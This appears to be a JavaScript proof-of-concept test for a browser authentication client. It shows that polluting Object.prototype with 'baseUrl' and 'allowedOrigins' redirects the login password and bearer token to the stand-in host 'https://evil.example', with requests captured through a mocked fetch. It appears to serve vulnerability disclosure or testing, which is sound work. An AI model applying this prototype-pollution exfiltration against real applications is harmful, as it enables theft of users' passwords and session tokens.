// A polluted Object.prototype (a deep merge of a query string: no script of the attacker's runs) sets options that the app
// left out: README's own set-up has no `baseUrl`. The login then sends the password to the attacker, and `allowedOrigins`
// opens the bearer to them. After creation `settings.sliding`, `.storage`, `.readTokens` are still read through the prototype.
import { createBrowser, json, jwt, PAGE, settle, verdict } from './lib.mjs'

const sent = []
const browser = createBrowser({
  async fetch(input, init) {
    const request = new Request(input, init)
    sent.push([request.method, request.url, request.headers.get('authorization')?.slice(0, 12) ?? '', await request.text()])
    return json({ access_token: jwt({ sub: 'ada' }), expires_in: 900 })
  },
})
const endpoints = { login: '/auth/login', refresh: '/auth/refresh_token', logout: '/auth/logout' }
Object.prototype.baseUrl = 'https://evil.example'
const tab = browser.open({ endpoints })
delete Object.prototype.baseUrl
await tab.client.login({ email: 'ada@example.com', password: 'secret' })
Object.prototype.allowedOrigins = [PAGE, 'https://evil.example']
const second = browser.open({ endpoints, tabs: false })
delete Object.prototype.allowedOrigins
await second.client.setTokens({ accessToken: jwt({ sub: 'ada' }), expiresIn: 900 })
await second.client.fetch('https://evil.example/x')
await settle()
console.log(sent)
const password = sent.some(([, url, , body]) => url.startsWith('https://evil') && body.includes('secret'))
const bearer = sent.some(([, url, header]) => url === 'https://evil.example/x' && header)
verdict(password || bearer, `options taken from Object.prototype (password to the attacker: ${password}, bearer: ${bearer})`)
